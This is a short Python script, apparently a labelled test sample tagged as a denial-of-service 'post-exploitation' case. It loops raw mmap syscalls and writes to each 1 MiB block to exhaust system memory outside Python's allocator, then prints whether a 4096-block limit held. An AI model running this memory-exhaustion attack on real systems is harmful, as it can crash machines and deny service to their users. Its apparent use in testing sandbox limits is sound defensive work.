# kind=dos; source: post-exploitation: memory taken from the kernel past Python's allocator
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
taken = 0
while True:
    page = libc.syscall(9, 0, 1 << 20, 3, 0x22 | 0x4000, -1, 0)
    if page < 0:
        break
    ctypes.memset(page, 1, 1 << 20)
    taken += 1
print(taken < 4096)
